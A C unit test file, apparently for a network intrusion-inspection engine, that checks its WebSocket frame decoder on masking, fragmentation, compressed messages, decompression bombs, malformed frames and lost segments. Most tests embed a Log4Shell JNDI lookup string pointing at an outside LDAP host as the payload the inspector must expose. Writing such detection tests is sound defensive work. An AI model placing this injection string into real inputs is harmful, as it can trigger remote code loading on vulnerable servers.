/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "inspect/websocket_frame.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>

#include <cmocka.h>
#include <zlib.h>

#include "base/count.h"
#include "inspect/hold.h"
#include "support/conversation.h"

#define LOOKUP "${jndi:ldap://203.0.113.9/a}"
#define ASK \
    BYTES_LIT("GET /chat HTTP/1.1\r\nHost: h\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n" \
              "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n")
#define AGREE \
    BYTES_LIT("HTTP/1.1 101 Switching Protocols\r\nUpgrade: WebSocket\r\nConnection: Upgrade\r\n" \
              "Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n\r\n")

enum { FIN = 0x80, RSV1 = 0x40 };

/* Appends a frame; mask 0: none. */
static void frame(struct buf *out, uint8_t first, uint32_t mask, struct bytes payload)
{
    uint8_t key[4] = {(uint8_t)(mask >> 24), (uint8_t)(mask >> 16), (uint8_t)(mask >> 8), (uint8_t)mask};
    uint8_t masked = mask ? 0x80 : 0;

    buf_add_byte(out, first);
    if (payload.len < 126) {
        buf_add_byte(out, (uint8_t)(masked | payload.len));
    } else if (payload.len < 65536) {
        buf_add_byte(out, masked | 126);
        buf_add_byte(out, (uint8_t)(payload.len >> 8));
        buf_add_byte(out, (uint8_t)payload.len);
    } else {
        buf_add_byte(out, masked | 127);
        for (int shift = 56; shift >= 0; shift -= 8)
            buf_add_byte(out, (uint8_t)((uint64_t)payload.len >> shift));
    }
    if (mask)
        buf_add(out, bytes_of(key, 4));
    for (size_t i = 0; i < payload.len; i++)
        buf_add_byte(out, payload.p[i] ^ (mask ? key[i % 4] : 0));
}

/* A compressor with context takeover, as both ends have one for each direction. */
static void deflate_message(z_stream *z, struct bytes text, int flush, struct buf *out)
{
    uint8_t room[300000];

    z->next_in = (z_const Bytef *)text.p;
    z->avail_in = (uInt)text.len;
    z->next_out = room;
    z->avail_out = sizeof room;
    assert_true(deflate(z, flush) == (flush == Z_FINISH ? Z_STREAM_END : Z_OK));
    buf_clear(out);
    /* Without 00 00 ff ff at the end (RFC 7692 7.2.1). */
    buf_add(out, bytes_of(room, sizeof room - z->avail_out - (flush == Z_SYNC_FLUSH ? 4 : 0)));
}

/* It keeps a pointer to itself. */
static void deflater(z_stream *z)
{
    *z = (z_stream){0};
    assert_int_equal(deflateInit2(z, 6, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY), Z_OK);
}

struct session {
    struct buf side[2];
    struct said said[8];
    unsigned n;
};

static struct session session(void)
{
    return (struct session){
        .side = {buf_within(4 << 20), buf_within(4 << 20)}, .said = {{0, ASK, 0}, {1, AGREE, 0}}, .n = 2};
}

/* All that a side has written. */
static void turn(struct session *s, unsigned side)
{
    s->said[s->n++] = (struct said){side, buf_bytes(&s->side[side]), 0};
}

static struct transcript play_with(const struct session *s, unsigned from, const struct config *config)
{
    struct conversation c = {.said = s->said + from, .n = s->n - from, .proto = PROTO_TCP};
    struct transcript t;

    count_reset();
    conversation_play(&c, config, &t);
    assert_int_equal(holds_bytes(), 0);
    return t;
}

static struct transcript play(const struct session *s)
{
    struct config config = conversation_config();

    return play_with(s, 0, &config);
}

static void same_in_pieces(const struct session *s)
{
    struct config config = conversation_config();

    conversation_assert_same_in_pieces(s->said, s->n, &config);
}

static void assert_has(const struct transcript *t, const char *needle)
{
    if (!transcript_has(t, needle))
        fail_msg("no \"%s\" in:\n%.*s", needle, (int)t->text.len, (const char *)t->text.p);
}

static void over(struct session *s, struct transcript *t)
{
    transcript_drop(t);
    buf_drop(&s->side[0]);
    buf_drop(&s->side[1]);
}

static void masks_and_fragments(void **state)
{
    struct session s = session();
    struct transcript t;

    (void)state;
    frame(&s.side[0], FIN | WEBSOCKET_TEXT, 0x12345678, BYTES_LIT("hello"));
    frame(&s.side[0], WEBSOCKET_TEXT, 0xa1b2c3d4, BYTES_LIT("{\"text\":\"${jndi:"));
    frame(&s.side[0], FIN | WEBSOCKET_PING, 0x01010101, BYTES_LIT("are you there"));
    frame(&s.side[0], WEBSOCKET_CONTINUATION, 0xffffffff, BYTES_LIT("l"));
    frame(&s.side[0], WEBSOCKET_CONTINUATION, 0x11111111, BYTES_LIT(""));
    frame(&s.side[0], FIN | WEBSOCKET_CONTINUATION, 0x0f0f0f0f, BYTES_LIT("dap://h/a}\"}"));
    frame(&s.side[0], FIN | WEBSOCKET_BINARY, 0x55aa55aa, BYTES_LIT("\x01\x02" LOOKUP));
    frame(&s.side[0], FIN | WEBSOCKET_CLOSE, 0x77777777, BYTES_LIT("\x03\xe8 bye " LOOKUP));
    turn(&s, 0);
    frame(&s.side[1], FIN | WEBSOCKET_TEXT, 0, BYTES_LIT("from the server " LOOKUP));
    turn(&s, 1);
    t = play(&s);
    assert_has(&t, "0 websocket websocket.payload #1 hello\n");
    assert_has(&t, "0 websocket websocket.payload #2 are you there\n");
    assert_has(&t, "0 websocket websocket.payload #2 {\"text\":\"${jndi:ldap://h/a}\"}\n");
    assert_has(&t, "0 websocket websocket.payload #3 \\x01\\x02" LOOKUP "\n");
    assert_has(&t, "0 websocket websocket.payload #3 \\x03\\xe8 bye " LOOKUP "\n");
    assert_has(&t, "1 websocket websocket.payload #4 from the server " LOOKUP "\n");
    assert_int_equal(t.raw[0].len + t.raw[1].len, 0);
    assert_int_equal(counters[COUNT_INSPECT_WEBSOCKET], 1);
    assert_int_equal(counters[COUNT_WEBSOCKET_MESSAGES], 4);
    same_in_pieces(&s);
    over(&s, &t);
}

static void long_messages(void **state)
{
    struct session s = session();
    struct transcript t;
    struct buf text = buf_within(200000);

    (void)state;
    for (unsigned i = 0; i < 70000; i++)
        buf_add_byte(&text, 'a');
    buf_add_str(&text, LOOKUP);
    frame(&s.side[0], FIN | WEBSOCKET_TEXT, 0x12345678, buf_bytes(&text)); /* 64 bits */
    frame(&s.side[0], FIN | WEBSOCKET_TEXT, 0x12345679,
          bytes_from(buf_bytes(&text), 70000 - 200)); /* 16 bits */
    turn(&s, 0);
    t = play(&s);
    assert_has(&t, "aaaa" LOOKUP "\n0 websocket websocket.payload #2 aaaa");
    assert_int_equal(t.raw[0].len, 0);
    over(&s, &t);
    buf_drop(&text);
}

/* The second message is a reference to the first; a third ends the stream of blocks, a fourth begins another.
 */
static void deflate_with_context(void **state)
{
    struct session s = session();
    struct transcript t;
    struct buf packed = buf_within(300000);
    z_stream z;

    (void)state;
    deflater(&z);
    deflate_message(&z, BYTES_LIT("{\"user\":\"anna\",\"text\":\"" LOOKUP "\"}"), Z_SYNC_FLUSH, &packed);
    frame(&s.side[0], FIN | RSV1 | WEBSOCKET_TEXT, 0x12345678, buf_bytes(&packed));
    deflate_message(&z, BYTES_LIT("{\"user\":\"bert\",\"text\":\"" LOOKUP "\"}"), Z_SYNC_FLUSH, &packed);
    frame(&s.side[0], RSV1 | WEBSOCKET_TEXT, 0x12345678, bytes_slice(buf_bytes(&packed), 0, 5));
    frame(&s.side[0], FIN | WEBSOCKET_CONTINUATION, 0x22345678, bytes_from(buf_bytes(&packed), 5));
    deflate_message(&z, BYTES_LIT("{\"user\":\"carl\",\"text\":\"" LOOKUP "\"}"), Z_FINISH, &packed);
    buf_add_byte(&packed, 0);
    frame(&s.side[0], FIN | RSV1 | WEBSOCKET_TEXT, 0x12345678, buf_bytes(&packed));
    frame(&s.side[0], FIN | WEBSOCKET_TEXT, 0x12345678, BYTES_LIT("not compressed " LOOKUP));
    turn(&s, 0);
    t = play(&s);
    assert_has(&t, "#1 {\"user\":\"anna\",\"text\":\"" LOOKUP "\"}\n");
    assert_has(&t, "#2 {\"user\":\"bert\",\"text\":\"" LOOKUP "\"}\n");
    assert_has(&t, "#3 {\"user\":\"carl\",\"text\":\"" LOOKUP "\"}\n");
    assert_has(&t, "#4 not compressed " LOOKUP "\n");
    assert_int_equal(counters[COUNT_WEBSOCKET_BAD_CODING], 0);
    same_in_pieces(&s);
    over(&s, &t);
    (void)deflateEnd(&z);
    buf_drop(&packed);
}

static void wrongly_called_compressed(void **state)
{
    struct session s = session();
    struct transcript t;

    (void)state;
    frame(&s.side[0], FIN | RSV1 | WEBSOCKET_TEXT, 0x12345678, BYTES_LIT("\x07 no deflate " LOOKUP));
    frame(&s.side[0], FIN | WEBSOCKET_TEXT, 0x12345678, BYTES_LIT("next " LOOKUP));
    turn(&s, 0);
    t = play(&s);
    assert_has(&t, "#1 \\x07 no deflate " LOOKUP "\n");
    assert_has(&t, "#2 next " LOOKUP "\n");
    assert_int_equal(counters[COUNT_WEBSOCKET_BAD_CODING], 1);
    over(&s, &t);
}

static void bomb(void **state)
{
    static char zeros[250000];
    struct session s = session();
    struct transcript t;
    struct buf packed = buf_within(300000);
    z_stream z;

    (void)state;
    deflater(&z);
    memset(zeros, 'z', sizeof zeros);
    deflate_message(&z, bytes_of(zeros, sizeof zeros), Z_SYNC_FLUSH, &packed);
    assert_true(packed.len < 1000);
    frame(&s.side[0], FIN | RSV1 | WEBSOCKET_TEXT, 0x12345678, buf_bytes(&packed));
    frame(&s.side[0], FIN | WEBSOCKET_TEXT, 0x12345678, BYTES_LIT("behind it " LOOKUP));
    turn(&s, 0);
    t = play(&s);
    assert_int_equal(counters[COUNT_WEBSOCKET_BOMB], 1);
    assert_true(t.text.len < 110000);
    assert_has(&t, "#2 behind it " LOOKUP "\n");
    over(&s, &t);
    (void)deflateEnd(&z);
    buf_drop(&packed);
}

/* Frames that cannot be: the rest is raw from there on. */
static void nonsense(void **state)
{
    static const struct {
        const char *what;
        struct bytes start;
    } rows[] = {
        {"RSV2", BYTES_LIT("\xa1\x00")},
        {"an unknown opcode", BYTES_LIT("\x83\x00")},
        {"an unknown control opcode", BYTES_LIT("\x8b\x00")},
        {"a control frame in fragments", BYTES_LIT("\x09\x00")},
        {"a long control frame", BYTES_LIT("\x89\x7e\x00\x80")},
        {"a compressed control frame", BYTES_LIT("\xc9\x00")},
        {"a continuation of nothing", BYTES_LIT("\x80\x00")},
        {"a compressed continuation", BYTES_LIT("\x40\x00")},
        {"more than 63 bits", BYTES_LIT("\x81\x7f\xff\0\0\0\0\0\0\0")},
    };

    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
        struct session s = session();
        struct transcript t;

        frame(&s.side[0], FIN | WEBSOCKET_TEXT, 0x12345678, BYTES_LIT("good"));
        buf_add(&s.side[0], rows[i].start);
        buf_add_str(&s.side[0], " then " LOOKUP);
        turn(&s, 0);
        frame(&s.side[1], FIN | WEBSOCKET_TEXT, 0, BYTES_LIT("answer"));
        turn(&s, 1);
        t = play(&s);
        if (!transcript_raw_has(&t, 0, " then " LOOKUP))
            fail_msg("%s: what follows is not seen", rows[i].what);
        assert_has(&t, "0 websocket websocket.payload #1 good\n");
        assert_has(&t, "1 websocket websocket.payload");
        same_in_pieces(&s);
        over(&s, &t);
    }
}

static void message_inside_a_message(void **state)
{
    struct session s = session();
    struct transcript t;

    (void)state;
    frame(&s.side[0], WEBSOCKET_TEXT, 0x12345678, BYTES_LIT("begun " LOOKUP));
    frame(&s.side[0], FIN | WEBSOCKET_TEXT, 0x00000001, BYTES_LIT("another"));
    turn(&s, 0);
    t = play(&s);
    assert_has(&t, "#1 begun " LOOKUP "\n");
    assert_true(t.raw[0].len > 0);
    over(&s, &t);
}

/* Without the upgrade: masked text and compressed text are recognised, what they refer to is not known. */
static void midstream(void **state)
{
    struct config config = conversation_config();
    struct session s = session();
    struct transcript t;
    struct buf packed = buf_within(300000);
    z_stream z;

    (void)state;
    deflater(&z);
    deflate_message(&z, BYTES_LIT("{\"user\":\"anna\",\"text\":\"hello\"}"), Z_SYNC_FLUSH, &packed);
    deflate_message(&z, BYTES_LIT("{\"user\":\"anna\",\"text\":\"" LOOKUP "\"}"), Z_SYNC_FLUSH, &packed);
    frame(&s.side[0], FIN | RSV1 | WEBSOCKET_TEXT, 0x12345678, buf_bytes(&packed));
    frame(&s.side[0], FIN | WEBSOCKET_TEXT, 0x12345678, BYTES_LIT("plain " LOOKUP));
    turn(&s, 0);
    t = play_with(&s, 2, &config);
    assert_has(&t, "\?\?\?" LOOKUP "\"}\n");
    assert_has(&t, "#1 plain " LOOKUP "\n");
    transcript_drop(&t);
    buf_clear(&s.side[0]);
    frame(&s.side[0], FIN | WEBSOCKET_TEXT, 0x12345678, BYTES_LIT("masked " LOOKUP));
    s.said[2].data = buf_bytes(&s.side[0]);
    t = play_with(&s, 2, &config);
    assert_has(&t, "#0 masked " LOOKUP "\n");
    /* Binary that is no text, and text that says a length beyond what another frame follows, are no
     * WebSocket. */
    transcript_drop(&t);
    s.said[2].data = BYTES_LIT("\x81\x88\x01\x02\x03\x04\x80\x81\x82\x83\x84\x85\x86\x87");
    t = play_with(&s, 2, &config);
    assert_int_equal(counters[COUNT_INSPECT_WEBSOCKET], 0);
    over(&s, &t);
    (void)deflateEnd(&z);
    buf_drop(&packed);
}

static void holes(void **state)
{
    struct session s = session();
    struct transcript t;
    struct bytes all;

    (void)state;
    frame(&s.side[0], FIN | WEBSOCKET_TEXT, 0x12345678,
          BYTES_LIT("0123456789 ten bytes of this are missing " LOOKUP));
    frame(&s.side[0], FIN | WEBSOCKET_TEXT, 0x12345678, BYTES_LIT("lost with its head"));
    frame(&s.side[0], FIN | WEBSOCKET_TEXT, 0x12345678, BYTES_LIT("found again " LOOKUP));
    all = buf_bytes(&s.side[0]);
    s.said[2] = (struct said){0, bytes_slice(all, 0, 6 + 11), 0};
    s.said[3] = (struct said){0, bytes_slice(all, 6 + 21, 6 + 41 + sizeof LOOKUP - 1), 10};
    s.said[4] = (struct said){0, bytes_from(all, 6 + 41 + sizeof LOOKUP - 1 + 24), 24};
    s.n = 5;
    t = play(&s);
    assert_has(&t, "#1 0123456789 \n");
    assert_has(&t, "#1 of this are missing " LOOKUP "\n");
    assert_has(&t, "#2 found again " LOOKUP "\n");
    over(&s, &t);
}

/* At the ceiling the context that was used least makes room; its connection shows what is new all the same.
 */
static void contexts_make_room(void **state)
{
    struct config config = conversation_config();
    struct session s = session();
    struct transcript t;
    struct buf packed = buf_within(300000);
    z_stream z[2];

    (void)state;
    deflater(&z[0]);
    deflater(&z[1]);
    config.websocket_memcap = 50000; /* one */
    for (unsigned round = 0; round < 2; round++)
        for (unsigned side = 0; side < 2; side++) {
            buf_clear(&s.side[side]);
            deflate_message(&z[side], BYTES_LIT("always the same text, but this: " LOOKUP), Z_SYNC_FLUSH,
                            &packed);
            frame(&s.side[side], FIN | RSV1 | WEBSOCKET_TEXT, side ? 0 : 0x12345678, buf_bytes(&packed));
            s.said[s.n] = (struct said){side, {malloc(s.side[side].len), s.side[side].len}, 0};
            memcpy((uint8_t *)(uintptr_t)s.said[s.n++].data.p, s.side[side].p, s.side[side].len);
        }
    t = play_with(&s, 0, &config);
    assert_true(counters[COUNT_WEBSOCKET_CONTEXTS_EVICTED] >= 3);
    assert_has(&t, "0 websocket websocket.payload #1 always the same text, but this: " LOOKUP "\n");
    assert_has(&t, "1 websocket websocket.payload #2 always the same text, but this: " LOOKUP "\n");
    for (unsigned i = 2; i < s.n; i++)
        free((void *)(uintptr_t)s.said[i].data.p);
    over(&s, &t);
    (void)deflateEnd(&z[0]);
    (void)deflateEnd(&z[1]);
    buf_drop(&packed);
}

/* Every cut of a head, in memory of exactly its size. */
static void heads_cut_anywhere(void **state)
{
    static const struct bytes heads[] = {
        BYTES_LIT("\x81\x85\x01\x02\x03\x04hello"),
        BYTES_LIT("\x81\xfe\x01\x00\x01\x02\x03\x04hello, this is text"),
        BYTES_LIT("\xc1\xff\0\0\0\0\0\1\0\0\x01\x02\x03\x04hello"),
    };

    (void)state;
    for (size_t i = 0; i < 3; i++)
        for (size_t cut = 0; cut <= heads[i].len; cut++) {
            uint8_t *exact = memcpy(malloc(cut + !cut), heads[i].p, cut);
            struct bytes b = {exact, cut};
            size_t len = websocket_head_len(b);
            struct websocket_frame f;

            assert_true(len >= 2 && len <= WEBSOCKET_HEAD_MAX);
            if (cut >= len)
                assert_true(websocket_frame_read(bytes_slice(b, 0, len), &f) && f.masked);
            else
                assert_int_equal(websocket_recognise(b, PROTO_TCP, false), RECOGNISE_MORE);
            assert_int_not_equal(websocket_recognise(b, PROTO_TCP, true), RECOGNISE_MORE);
            free(exact);
        }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(masks_and_fragments),
        cmocka_unit_test(long_messages),
        cmocka_unit_test(deflate_with_context),
        cmocka_unit_test(wrongly_called_compressed),
        cmocka_unit_test(bomb),
        cmocka_unit_test(nonsense),
        cmocka_unit_test(message_inside_a_message),
        cmocka_unit_test(midstream),
        cmocka_unit_test(holes),
        cmocka_unit_test(contexts_make_room),
        cmocka_unit_test(heads_cut_anywhere),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
